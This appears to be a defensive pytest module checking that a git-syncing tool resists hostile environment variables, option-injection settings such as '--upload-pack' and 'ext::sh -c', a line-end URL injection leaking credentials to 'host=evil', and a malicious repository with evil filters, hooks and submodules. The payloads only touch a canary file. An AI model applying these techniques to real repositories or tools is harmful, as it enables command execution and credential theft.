"""Attacks on git itself, by settings and by hostile repositories, on the daemon and the command line."""

import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest

from reconciler.source.limits import Limits
from tests.attacks.stage import BASE, Stage, document, exchange, has_fault, stage, trap
from tests.e2e.installation import Installation, Json, installation

# The login that owns the shared repository in place of the daemon's.
TENANT = 1


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    folder = tmp_path_factory.mktemp("git")
    with stage(folder, env=hostile_environment(folder)) as made:
        yield made
    assert not (folder / "trace").exists(), "a program was run that the daemon was told of by a stranger"


@pytest.fixture
def asker(tmp_path: Path) -> Iterator[Installation]:
    """Somebody with settings and the command line."""
    with installation() as made:
        made.commit("Describe the site", BASE)
        yield made


def hostile_environment(folder: Path) -> dict[str, str]:
    """Return variables that make git or GitPython run a program or write a file."""
    program, trace = trap(folder)
    (folder / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {program}\n\thooksPath = {folder}\n")
    return {
        "HOME": str(folder),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": str(program),
        "GIT_DIR": str(folder / "elsewhere"),
        "GIT_EXEC_PATH": str(folder),
        "GIT_EXTERNAL_DIFF": str(program),
        "GIT_PROXY_COMMAND": str(program),
        "GIT_PYTHON_GIT_EXECUTABLE": str(program),
        "GIT_SSH_COMMAND": str(program),
        "GIT_TRACE": str(trace),
        "SSH_ASKPASS": str(program),
    }


SETTINGS = (
    'branch = "--upload-pack=touch {trace};"',
    'url = "-oProxyCommand=touch {trace}"',
    'url = "ext::sh -c \\"touch {trace}\\""',
    'url = "fd::7"',
    'url = "https://user:hunter2@host/%0ahost=evil"',
)


def test_no_setting_of_the_source_runs_a_program(asker: Installation, tmp_path: Path) -> None:
    """Option injection, protocols that run commands, and a line end that hands out credentials."""
    settings = asker.home / "rayops.toml"
    good = settings.read_text()
    for line in SETTINGS:
        name, said = line.partition(" ")[0], line.format(trace=tmp_path / "trace")
        text = good if name != "url" else good.replace(f'url = "{asker.repo}"\n', "")
        settings.write_text(text.replace("[source]\n", f"[source]\n{said}\n"))
        answer = asker.rayops("once", code=None)
        assert "[source]" in answer or "source." in answer, f"{line}: {answer}"
        assert "hunter2" not in answer
    assert not (tmp_path / "trace").exists()
    assert not (asker.status / "user").exists()


def test_no_revision_to_plan_runs_a_program(asker: Installation, tmp_path: Path) -> None:
    """Option injection by the person who plans: a revision that is an option, or a protocol that runs commands."""
    for name in ("--upload-pack=touch {0};", "--output={0}", "ext::touch {0}"):
        answer = asker.rayops("plan", f"--revision={name.format(tmp_path / 'trace')}", code=None)
        assert "neither a commit id nor a branch name" in answer
    assert "give the whole commit id" in asker.rayops("accept", "main:../../x", code=2)
    assert not (tmp_path / "trace").exists()


def test_a_hostile_repository_runs_nothing_here(site: Stage, tmp_path: Path) -> None:
    """Hooks, fsmonitor, filters and submodules of the shared repo, with names that once made git run them."""
    program, trace = trap(tmp_path)
    for name in (
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "uploadpack.packObjectsHook",
        "filter.evil.clean",
    ):
        site.remote.git("config", name, str(program))
    site.remote.git("config", "filter.evil.smudge", str(program))
    site.remote.git("config", "core.hooksPath", str(tmp_path / "hooks"))
    (tmp_path / "hooks").mkdir()
    for hook in ("reference-transaction", "post-update", "post-checkout", "pre-auto-gc", "fsmonitor-watchman"):
        (tmp_path / "hooks" / hook).symlink_to(program)
    submodule = f'[submodule "../../.git/hooks"]\n\tpath = "sub\r"\n\turl = -u{program}\n\tupdate = !{program}\n'
    inner = site.remote.tree([("100755", site.remote.blob(program.read_bytes()), b"post-checkout")])
    site.commit_tree(
        [
            *site.entries(),
            ("100644", site.remote.blob(b"*.yaml filter=evil diff=evil merge=evil\n"), b".gitattributes"),
            ("100644", site.remote.blob(submodule.encode()), b".gitmodules"),
            ("160000", site.remote.git("rev-parse", "main"), b"sub\r"),
            ("120000", site.remote.blob(b".git/hooks"), b"sub"),
            ("40000", inner, b".git"),
        ]
    )
    assert not trace.exists()
    assert site.errors() == {}, "none of it stands where a document belongs"


@contextmanager
def exchanged(one: Path, other: Path) -> Iterator[None]:
    """Swap two files again and again; in the end each has its own name."""
    own, stop = one.read_bytes(), threading.Event()

    def swap() -> None:
        while not stop.is_set():
            exchange(one, other)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        if one.read_bytes() != own:
            exchange(one, other)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a repository to another user")
def test_a_tenant_who_rewrites_objects_during_the_fetch_is_not_believed(tmp_path: Path) -> None:
    """Another user owns the shared repo and swaps the honest object for his own while it is read."""
    with stage(tmp_path) as site:
        forged = site.remote.blob(document("User", "witness", "{displayName: forged}").encode())
        for number in range(4):
            honest = site.remote.blob(document("User", "witness", f"{{displayName: h{number}}}").encode())
            tree = site.remote.tree([*site.entries(), ("100644", honest, b"witness.yaml")])
            for path in [site.remote.folder, *site.remote.folder.rglob("*")]:
                os.chown(path, TENANT, TENANT)
            with exchanged(*(site.remote.folder / "objects" / one[:2] / one[2:] for one in (honest, forged))):
                revision = site.remote.commit_tree(tree)
                site.until_told(partial(_is_settled, revision))
            assert "forged" not in site.files()
        site.until_told(lambda summary: summary["revision"] == revision, nudge=True)
        assert "forged" not in site.files()
        assert (site.made.object("user/witness") or {})["detail"]["displayName"] == "h3"


def _is_settled(revision: str, summary: Json) -> bool:
    return has_fault("Corrupt", summary) or bool(summary["revision"] == revision)


def test_a_truncated_pack_is_held_until_it_is_whole(site: Stage) -> None:
    """A damaged remote: its only pack ends in the middle. And one fetch brings no more than a GiB."""
    assert Limits().fetched_bytes == 1 << 30
    witness = site.remote.blob(document("User", "witness", "{displayName: packed}").encode())
    tree = site.remote.tree([*site.entries(), ("100644", witness, b"witness.yaml")])
    revision = site.remote.git("commit-tree", tree, "-p", "main", "-m", "Pack it")
    site.remote.git("update-ref", "refs/heads/next", revision)
    site.remote.git("repack", "-adq")
    (pack,) = site.remote.folder.rglob("*.pack")
    whole = pack.read_bytes()
    pack.chmod(0o600)
    pack.write_bytes(whole[: len(whole) // 2])
    # By hand: git would look at what it points to.
    (site.remote.folder / "refs/heads/main").write_text(f"{revision}\n")
    site.until_told(partial(has_fault, "Corrupt"), nudge=True)
    assert (site.made.object("user/alice") or {})["sync"] == "Synced"
    pack.write_bytes(whole)
    site.until_told(lambda summary: summary["revision"] == revision, nudge=True)
    assert (site.made.object("user/witness") or {})["detail"]["displayName"] == "packed"
